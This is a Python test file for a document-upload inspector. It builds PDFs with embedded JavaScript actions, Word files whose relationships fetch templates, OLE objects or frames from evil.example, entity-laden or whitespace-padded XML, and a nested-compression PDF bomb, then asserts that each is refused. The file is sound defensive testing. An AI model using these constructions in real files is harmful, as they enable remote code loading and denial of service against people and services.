"""Files that hide what acts deeper than the front page, and files made to exhaust whoever looks."""

import io
import time
import zipfile
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from registry.lib.errors import InvalidError
from registry.licensing.uploads import inspect
from tests.licensing.test_uploads import office

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def named(**members: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in members.items()})


def script() -> DictionaryObject:
    return named(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))


def pdf_of(where: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    page = writer.add_blank_page(100, 100)
    if where == "page opens":
        page[NameObject("/AA")] = named(O=script())
    elif where == "link":
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(named(Subtype=NameObject("/Link"), A=script()))])
    elif where == "link, later":
        web = named(S=NameObject("/URI"), URI=TextStringObject("https://example.kz"), Next=script())
        page[NameObject("/Annots")] = ArrayObject([named(Subtype=NameObject("/Link"), A=web)])
    elif where == "attached to a page":
        page[NameObject("/Annots")] = ArrayObject([named(Subtype=NameObject("/FileAttachment"))])
    elif where == "film":
        page[NameObject("/Annots")] = ArrayObject([named(Subtype=NameObject("/RichMedia"))])
    elif where == "form field":
        page[NameObject("/Annots")] = ArrayObject([named(Subtype=NameObject("/Widget"), AA=named(K=script()))])
    elif where == "program in a form":
        writer._root_object[NameObject("/AcroForm")] = named(XFA=DecodedStreamObject())
    elif where == "associated files":
        writer._root_object[NameObject("/AF")] = ArrayObject([named(Type=NameObject("/Filespec"))])
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


@pytest.mark.parametrize(
    "where",
    ["page opens", "link", "link, later", "attached to a page", "film", "form field", "program in a form", "associated files"],
)  # fmt: skip
def test_a_pdf_that_acts_anywhere_is_refused(where: str) -> None:
    with pytest.raises(InvalidError) as caught:
        inspect(pdf_of(where), "a.pdf")
    assert caught.value.code == "active"


def test_a_pdf_with_a_web_link_is_taken() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(100, 100)
    web = named(S=NameObject("/URI"), URI=TextStringObject("https://example.kz"))
    page[NameObject("/Annots")] = ArrayObject([named(Subtype=NameObject("/Link"), A=web)])
    stream = io.BytesIO()
    writer.write(stream)
    assert inspect(stream.getvalue(), "a.pdf").content_type == "application/pdf"


def rels(kind: str, target: str, encoding: str = "utf-8") -> bytes:
    text = f'<Relationships><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return text.encode(encoding)


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://evil.example/a.dotm")),
        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://evil.example/a.dotm", "utf-16")),
        ("word/_rels/settings.xml.rels", rels("attachedTemplate", "x").replace(b'TargetMode="External"', b"TargetMode = 'External'")),
        ("word/_rels/document.xml.rels", rels("image", "file://evil.example/share/a.png")),
        ("word/_rels/document.xml.rels", rels("oleObject", "https://evil.example/a.rtf")),
        ("word/_rels/document.xml.rels", rels("frame", "https://evil.example/")),
        ("word/_rels/document.xml.rels", b" " * 5000 + rels("subDocument", "https://evil.example/")),
        ("word/afchunk.mht", b"MIME-Version: 1.0"),
        ("word/page.html", b"<script>alert(1)</script>"),
        ("word/other.rtf", b"{\\rtf1}"),
        ("word/styles.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")),
        ("word/styles.xml", b"<?xml version='1.0'?>" + b" " * 5000 + b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"),
    ],
)
def test_a_document_that_fetches_or_hides_is_refused(part: str, content: bytes) -> None:
    with pytest.raises(InvalidError) as caught:
        inspect(office(extra={part: content}), "a.docx")
    assert caught.value.code == "active"


@pytest.mark.parametrize("kind", ["hyperlink", "externalLinkPath"])
def test_a_document_with_links_is_taken(kind: str) -> None:
    inside = b'<Relationships><Relationship Id="r2" Type="x/image" Target="media/a.png"/></Relationships>'
    parts = {"word/_rels/document.xml.rels": rels(kind, "https://example.kz"), "word/_rels/header1.xml.rels": inside}
    assert inspect(office(extra=parts), "a.docx").size


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_document_packed_in_an_odd_way_is_refused(method: int) -> None:
    stream = io.BytesIO(office())
    with zipfile.ZipFile(stream, "a", method) as archive:
        archive.writestr("word/styles.xml", b"<a/>" * 1000)
    with pytest.raises(InvalidError):
        inspect(stream.getvalue(), "a.docx")


def test_a_pdf_bomb_is_refused_or_passed_over_within_seconds() -> None:
    packed = zlib.compress(zlib.compress(b"\0" * 300_000_000, 9), 9)
    head = b"%PDF-1.5\n1 0 obj\n<< /Type /XRef /Size 2 /W [1 2 1] /Root 1 0 R /Filter [/FlateDecode /FlateDecode] /Length "
    body = head + str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"
    started = time.monotonic()
    with pytest.raises(InvalidError):
        inspect(body, "a.pdf")
    assert time.monotonic() - started < 10
